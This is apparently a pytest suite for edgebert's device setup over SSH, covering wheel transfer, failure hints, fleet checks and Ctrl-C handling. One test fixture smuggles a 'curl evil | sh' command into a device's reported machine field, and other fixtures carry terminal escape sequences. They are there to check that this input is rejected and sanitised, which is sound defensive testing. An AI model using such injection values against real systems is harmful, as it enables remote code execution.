"""Setting devices up: for real over SSH, with a wheel of a few bytes where the steps matter, and scripted for failures."""

from __future__ import annotations

import asyncio
import json
import os
import re
import signal
import subprocess
import sys
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest
from conftest import Result
from device_venv import MadeEnvironment, made_environment
from processes import wait_for

import edgebert
from edgebert.core.parallel_progress import SilentParallelProgress
from edgebert.devices.setup import on_device
from edgebert.devices.setup.setup import OwnKey, Setup, SetupOrder, set_up
from edgebert.devices.setup.wheels import Wheels, read_wheels
from edgebert.devices.transport.address import SshAddress
from edgebert.devices.transport.base import Completed
from edgebert.devices.transport.local import LocalDevice
from edgebert.devices.transport.ssh import SshDevice
from edgebert.errors import DeviceError

__all__ = ["made_environment"]
LINE = SilentParallelProgress().line("kitchen")
OWN = f"edgebert-{edgebert.__version__}-py3-none-any.whl"


@pytest.mark.slow
def test_a_device_is_set_up_over_ssh_without_an_index(made_environment: MadeEnvironment) -> None:
    assert made_environment.code == 0, made_environment.err + made_environment.out
    row = made_environment.out.splitlines()[1]
    assert "installed" in row and "trusted" in row and "not trusted" not in row and "onnxruntime" in row
    root = made_environment.venv.parent
    assert sorted(file.name for file in root.iterdir()) == ["lock", "venv"]  # the wheels are gone again
    trust = (root.parent / ".config" / "edgebert" / "trust.toml").read_text()
    assert trust.count("BEGIN PUBLIC KEY") == 1


@pytest.mark.slow
def test_the_environment_of_a_device_holds_the_device_side_alone(made_environment: MadeEnvironment) -> None:
    listed = subprocess.run(
        [made_environment.venv / "bin" / "pip", "list", "--format=json", "--disable-pip-version-check"],
        capture_output=True,
        text=True,
        check=True,
    )
    packages = {package["name"].lower() for package in json.loads(listed.stdout)}
    assert {"edgebert", "onnxruntime", "tokenizers", "model-signing"} <= packages
    assert not packages & {"torch", "transformers", "asyncssh", "ruamel.yaml", "openvino", "onnx", "scipy"}
    script = subprocess.run(
        [made_environment.venv / "bin" / "edgebert", "--version"], capture_output=True, text=True, check=True
    )
    assert script.stdout == f"edgebert {edgebert.__version__}\n"
    assert str(made_environment.venv) in (made_environment.venv / "bin" / "activate").read_text()


STUB = """
import json, sys
request = json.loads(sys.stdin.readline())
about = {"protocol": 1, "edgebert_version": "VERSION", "python": "3", "machine": "m", "cpu": "c", "isas": [],
         "runtimes": {"onnxruntime": "1"}, "free_bytes": 1, "trusted": [], "serving": None}
if __name__ == "__main__":
    print(json.dumps({"event": "result", "value": about if request["op"] == "hello" else {}}))
"""


def tiny_wheel(folder: Path, *, mark: str = "", requires: str = "") -> Path:
    """A wheel called edgebert whose agent only says who it is."""
    folder.mkdir(exist_ok=True)
    info = f"edgebert-{edgebert.__version__}.dist-info"
    files = {
        "edgebert/__init__.py": mark,
        "edgebert/devices/agent/__init__.py": "",
        "edgebert/slots/agent.py": "import runpy\nrunpy.run_module('edgebert.devices.agent.agent', run_name=__name__)\n",
        "edgebert/devices/agent/agent.py": 'if __name__ == "__main__":\n'
        + "".join(f"    {line}\n" for line in STUB.replace("VERSION", edgebert.__version__).strip().splitlines()),
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: edgebert\nVersion: {edgebert.__version__}\n{requires}",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    with zipfile.ZipFile(folder / OWN, "w") as wheel:
        for name, text in files.items():
            wheel.writestr(name, text)
        wheel.writestr(f"{info}/RECORD", "".join(f"{name},,\n" for name in [*files, f"{info}/RECORD"]))
    return folder


def order(wheels: Path, **fields: Any) -> SetupOrder:
    """An order that makes an environment in a local folder, from those wheels alone."""
    found = read_wheels(wheels, edgebert.__version__)
    return SetupOrder(key=None, wheels=found, offline=True, python=sys.executable, **fields)


def kill_a_setup(root: Path, wheels: Path) -> None:
    """Starts a setup and kills it hard in the middle, behind one that was killed between its two renames."""
    (root / "venv.old" / "bin").mkdir(parents=True)
    (root / "wheels").mkdir()
    (root / "wheels" / OWN).write_bytes((wheels / OWN).read_bytes())
    request = {"do": "install", "root": str(root), "wheel": OWN, "extras": "", "offline": True, "made_of": {}}
    order = json.dumps({**request, "ours": ["venv", "venv.new", "venv.old", "wheels", "lock"]})
    text = Path(on_device.__file__).read_text()
    running = subprocess.Popen([sys.executable, "-c", text, order], start_new_session=True, stdout=subprocess.DEVNULL)
    wait_for(lambda: (root / "venv.new").is_dir())
    os.killpg(running.pid, signal.SIGKILL)
    running.wait()
    assert (root / "venv" / "bin").is_dir() and not (root / "venv.old").exists()


@pytest.mark.slow
def test_an_environment_is_made_as_a_whole_and_again_only_where_something_changed(tmp_path: Path) -> None:
    """One test for many steps, for each environment takes seconds to make."""
    device = LocalDevice("desk", tmp_path / "root")
    venv = tmp_path / "root" / "venv"
    wheels = tiny_wheel(tmp_path / "wheels")
    kill_a_setup(tmp_path / "root", wheels)
    assert asyncio.run(set_up(device, LINE, order=order(wheels))).state == "installed"
    assert sorted(file.name for file in (tmp_path / "root").iterdir()) == ["lock", "venv"]
    (venv / "mark").touch()

    assert asyncio.run(set_up(device, LINE, order=order(wheels))).state == "ready"
    assert (venv / "mark").exists()

    broken = tiny_wheel(tmp_path / "broken", requires="Requires-Dist: no-such-package\n")
    with pytest.raises(DeviceError, match=r"could not be installed on desk: .*no-such-package") as error:
        asyncio.run(set_up(device, LINE, order=order(broken)))
    assert "pip download" in str(error.value.hint)
    assert (venv / "mark").exists()  # what was there serves on
    assert on_device.made_of(venv)

    (venv / "bin" / "python").unlink()  # as after an update of the system's Python
    (venv / "bin" / "python").symlink_to("/nowhere/python3")
    assert on_device.made_of(venv) is None  # so that it is made again


def test_a_folder_that_holds_something_else_is_not_touched(tmp_path: Path) -> None:
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "holiday.jpg").touch()
    wheels = tiny_wheel(tmp_path / "wheels")
    with pytest.raises(DeviceError, match=r"holds something else \(holiday.jpg\)"):
        asyncio.run(set_up(LocalDevice("desk", tmp_path / "root"), LINE, order=order(wheels)))
    assert not (tmp_path / "root" / "venv").exists()


class Scripted:
    """A channel whose commands give the answer of the first key of the script that is part of their last argument."""

    def __init__(self, script: dict[str, Completed]) -> None:
        self.script, self.put_there = script, list[str]()

    async def run(self, arguments: Sequence[str], *, on_line: Callable[[str], None] | None = None) -> Completed:
        """The answer of the first key."""
        found = (answer for key, answer in self.script.items() if key in arguments[-1])
        done = next(found, Completed(127, "", ""))
        for line in done.out.splitlines():
            if on_line:
                on_line(line)
        return done

    async def put(self, source: Path, target: str) -> None:
        """Remembers it."""
        self.put_there.append(target)

    async def ask(self, request: Any, **options: Any) -> dict[str, Any]:
        """Is not asked."""
        raise AssertionError


LOOK = json.dumps({"python": [3, 11, 2], "machine": "aarch64", "made_of": None, "wheels": {}})
FOUND = {"import sys; print": Completed(0, "3 11\n", ""), '"look"': Completed(0, f"Welcome!\n{LOOK}\n", "")}


def fault(about: str, words: str) -> dict[str, Completed]:
    return {**FOUND, '"install"': Completed(0, json.dumps({"fault": words, "about": about}), "")}


FAILURES = {
    "no python": ({}, "kitchen has no Python.", "Python 3.11"),
    "old python": ({"import sys; print": Completed(0, "3 9\n", "")}, "kitchen has Python 3.9 and 3.9 .*too old", "--python"),
    "no venv": (fault("venv", "ensurepip is not available"), "cannot make an environment", "apt-get install python3-venv"),
    "no network": (fault("network", "ERROR: none"), "could not be installed", "manylinux_2_28_aarch64.*\n.*--offline"),
    "pip failed": (fault("pip", "ERROR: No space left"), "No space left", "starts again"),
    "busy": (fault("busy", "another edgebert works in /x"), "another edgebert works", "Wait"),
    "another folder": (fault("root", "/x holds something else"), "holds something else", "Name an empty folder"),
    "a full disk": (fault("disk", "No space left on device"), "No space left on device", None),
    "crashed": (
        {**FOUND, '"install"': Completed(1, "", "Traceback\nMemoryError: \x1b[2J")},
        r"failed: MemoryError:  \[2J",
        "again",
    ),
    "ended": ({**FOUND, '"install"': Completed(0, '{"phase": "environment"}', "")}, "ended in the middle", "goes on"),
}


@pytest.mark.parametrize("case", FAILURES)
def test_a_failure_on_the_device_is_reported_with_what_to_do(case: str, tmp_path: Path) -> None:
    script, message, hint = FAILURES[case]
    given = SetupOrder(None, read_wheels(tiny_wheel(tmp_path), edgebert.__version__))
    device = SshDevice("kitchen", SshAddress("kitchen"))
    with pytest.raises(DeviceError, match=message) as error:
        asyncio.run(Setup(device, Scripted(script), given, LINE).run())
    assert "\x1b" not in str(error.value)
    if hint:
        assert re.search(hint, str(error.value.hint)), error.value.hint


STRANGE: dict[str, dict[str, Completed]] = {
    "a machine that is a command": {'"look"': Completed(0, LOOK.replace("aarch64", "x86_64; curl evil | sh #"), "")},
    "a machine alone": {'"look"': Completed(0, '{"machine": "x"}', "")},
    "a list": {'"look"': Completed(0, "[]", "")},
    "brackets without end": {'"look"': Completed(0, "[" * 100_000, "")},
    "a large version": {'"look"': Completed(0, LOOK.replace("11", "1" * 400), "")},
    "digits without end": {"import sys; print": Completed(0, f"3 {'1' * 5000}\n", "")},
}


@pytest.mark.parametrize("case", STRANGE)
def test_what_a_device_says_of_itself_is_checked_before_it_is_used(case: str, tmp_path: Path) -> None:
    given = SetupOrder(None, read_wheels(tiny_wheel(tmp_path), edgebert.__version__))
    channel = Scripted({**fault("network", "none"), **STRANGE[case]})
    with pytest.raises(DeviceError, match=r"does not say what it has|no Python") as error:
        asyncio.run(Setup(SshDevice("kitchen", SshAddress("kitchen")), channel, given, LINE).run())
    assert "curl" not in str(error.value)


def test_an_empty_wheel_is_brought_as_any_other(tmp_path: Path) -> None:
    folder = tiny_wheel(tmp_path / "wheels")
    (folder / "empty-1.0-py3-none-any.whl").touch()
    wheels = read_wheels(folder, edgebert.__version__)
    assert wheels.own is not None
    look = {**json.loads(LOOK), "wheels": {OWN: wheels.own.sha256()}}
    script = {**FOUND, '"look"': Completed(0, json.dumps(look), ""), '"install"': Completed(0, '{"done": true}', "")}
    channel = Scripted(script)
    assert asyncio.run(Setup(SshDevice("x", SshAddress("x")), channel, SetupOrder(key=None, wheels=wheels), LINE).run())
    assert channel.put_there == ["edgebert/wheels/empty-1.0-py3-none-any.whl"]


def test_only_wheels_that_are_missing_travel_and_an_extra_stays(tmp_path: Path) -> None:
    folder = tiny_wheel(tmp_path / "wheels")
    (folder / "numpy-2.4.6-cp311-cp311-manylinux_2_28_aarch64.whl").write_bytes(b"numpy")
    (folder / "numpy-2.4.6-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(b"numpy")
    wheels = read_wheels(folder, edgebert.__version__)
    assert wheels.own is not None
    look = {**json.loads(LOOK), "wheels": {OWN: wheels.own.sha256()}, "made_of": {"edgebert": "0.0.1", "openvino": True}}
    asked: list[str] = []

    class Listening(Scripted):
        async def run(self, arguments: Sequence[str], *, on_line: Callable[[str], None] | None = None) -> Completed:
            asked.append(arguments[-1])
            return await super().run(arguments, on_line=on_line)

    script = {**FOUND, '"look"': Completed(0, json.dumps(look), ""), '"install"': Completed(0, '{"done": true}', "")}
    channel = Listening(script)
    device = SshDevice("kitchen", SshAddress("kitchen", root="models"))
    assert asyncio.run(Setup(device, channel, SetupOrder(key=None, wheels=wheels, offline=True), LINE).run())
    assert channel.put_there == ["models/wheels/numpy-2.4.6-cp311-cp311-manylinux_2_28_aarch64.whl"]
    request = json.loads(asked[-1])
    assert (request["wheel"], request["extras"], request["offline"]) == (OWN, "[openvino]", True)


def test_a_python_of_the_fleet_is_left_alone(tmp_path: Path) -> None:
    device = LocalDevice("desk", tmp_path / "root", python=sys.executable)
    key = OwnKey("me", "pem", "f" * 64)
    found = asyncio.run(set_up(device, LINE, order=SetupOrder(key=key, wheels=Wheels(()), python="python3")))
    assert found.state == "ready" and found.trusts is False
    assert not (tmp_path / "root").exists()


def test_devices_check_says_who_can_be_used(cli: Callable[..., Result], tmp_path: Path) -> None:
    done = cli("devices", "check", "./desk", "--json")
    assert done.code == 0, done.err
    (found,) = json.loads(done.out)
    assert (found["device"], found["state"], found["about"]["edgebert_version"]) == ("./desk", "ready", edgebert.__version__)
    assert not (tmp_path / "desk").exists()
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "holiday.jpg").touch()
    (tmp_path / "fleet.yaml").write_text(
        "devices:\n  desk: {address: ./desk, labels: {room: study}}\n  shelf: {address: ./busy, labels: {room: study}}\n"
    )
    done = cli("devices", "check", "--fleet", "fleet.yaml", "--only", "room=study")
    assert done.code == 3
    _, desk, shelf, hint = done.out.splitlines()
    assert "ready" in desk and "unusable" in shelf and "holds something else" in shelf and hint.startswith("  ")
    assert "desk: ready" in done.err


AGENT = """#!{python}
import json, sys
if sys.argv[1] != "-c":
    about = {{"protocol": 1, "edgebert_version": "1", "python": "3", "machine": "m", "cpu": "c", "isas": [],
              "runtimes": {{"onnxruntime": "1"}}, "free_bytes": 1, "trusted": [], "serving": None}}
    about.update({said})
    print(json.dumps({{"event": "result", "value": about}}))
"""


def device_that_says(folder: Path, name: str, said: dict[str, Any]) -> str:
    """A line of a fleet; its device answers `hello` with that."""
    agent = folder / f"python-{name}"
    agent.write_text(AGENT.format(python=sys.executable, said=said))
    agent.chmod(0o755)
    return f"  {name}: {{address: ./{name}, python: {agent}}}\n"


def test_a_broken_device_neither_stops_the_others_nor_writes_on_the_terminal(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    said = {"cpu": "\x1b[2J\x9b2J\ndesk  ready", "isas": ["\x07"], "runtimes": {"\x1b": "\n"}, "trusted": ["\x9b"]}
    texts = dict.fromkeys(("edgebert_version", "python", "machine"), "a\x1b[2J\n")
    (tmp_path / "fleet.yaml").write_text(
        "devices:\n"
        + device_that_says(tmp_path, "vast", {"free_bytes": 10**400})
        + device_that_says(tmp_path, "loud", {**said, **texts})
        + "  desk: {address: ./desk}\n"
    )
    done = cli("devices", "check", "--fleet", "fleet.yaml")
    assert done.code == 3
    _, vast, loud, desk, *hints = done.out.splitlines()  # one more where this user has a key already
    assert "vast" in vast and "does not say who it is" in vast and any("devices setup vast" in hint for hint in hints)
    assert loud.startswith("loud") and desk.startswith("desk") and "ready" in desk
    listed = cli("devices", "check", "--fleet", "fleet.yaml", "--json")
    for text in (done.out, done.err, listed.out, listed.err):
        assert all(line.isprintable() for line in text.splitlines()) and "\x9b" not in text
    assert "\\u001b" not in listed.out and "\\u009b" not in listed.out


def test_an_error_that_nobody_foresaw_is_that_device_s_alone(
    cli: Callable[..., Result], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "busy").mkdir()
    opened = LocalDevice.open

    def open_one(device: LocalDevice) -> Any:
        if device.name == "./busy":
            raise OverflowError("of ours\nspoofed  ready")
        return opened(device)

    monkeypatch.setattr(LocalDevice, "open", open_one)
    done = cli("devices", "check", "./busy", "./desk")
    assert done.code == 3
    _, busy, desk, hint = done.out.splitlines()
    assert "OverflowError: of ours spoofed" in busy and "ready" in desk and "a fault in edgebert" in hint
    assert "desk: ready" in done.err and "busy: unusable: OverflowError" in done.err


def test_devices_setup_of_a_local_folder_has_nothing_to_install(cli: Callable[..., Result], tmp_path: Path) -> None:
    done = cli("devices", "setup", "./desk", "--quiet")
    assert (done.code, done.err) == (0, "")
    assert "ready" in done.out and not (tmp_path / "desk").exists()


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (("setup",), "No device is named"),
        (("setup", "kitchen", "--offline"), "--offline needs the wheels"),
        (("setup", "kitchen", "--wheels", "nowhere"), "There are no wheels in nowhere"),
        (("setup", "kitchen", "--python", "-c"), "no name of a program"),
        (("setup", "pi:secret@kitchen"), "password"),
        (("check", "--only", "room=kitchen"), "there is none"),
        (("check", "--fleet", "nowhere.yaml"), "cannot be read"),
        (("check", "./a", "./a"), "named twice"),
    ],
)
def test_devices_refuses_arguments_in_words(cli: Callable[..., Result], arguments: tuple[str, ...], message: str) -> None:
    done = cli("devices", *arguments)
    assert done.code == 2
    assert message in done.err and "secret" not in done.err and "Traceback" not in done.err


@pytest.mark.parametrize(
    ("verb", "left"), [("check", "Nothing was written."), ("setup", "What was installed stays; the same command goes on")]
)
def test_ctrl_c_ends_what_is_under_way_and_shows_what_was_done(tmp_path: Path, verb: str, left: str) -> None:
    agent = tmp_path / "python"
    mark = tmp_path / "started"
    agent.write_text(f"#!/bin/sh\n[ $1 = -c ] && exit 0\ntouch {mark}\nexec sleep 600\n")
    agent.chmod(0o755)
    (tmp_path / "fleet.yaml").write_text(
        f"devices:\n  desk: {{address: ./desk}}\n  slow: {{address: ./slow, python: {agent}}}\n"
    )
    command = [sys.executable, "-m", "edgebert", "devices", verb, "--fleet", "fleet.yaml", "--json"]
    running = subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert running.stderr is not None
    wait_for(mark.exists)
    said = ""
    while "desk: ready" not in said:
        said += running.stderr.readline()
    running.send_signal(signal.SIGINT)
    out, err = running.communicate(timeout=60)
    assert running.returncode == 130, err
    assert {item["device"]: item["state"] for item in json.loads(out)} == {"desk": "ready", "slow": "interrupted"}
    assert left in err
    assert "Traceback" not in err
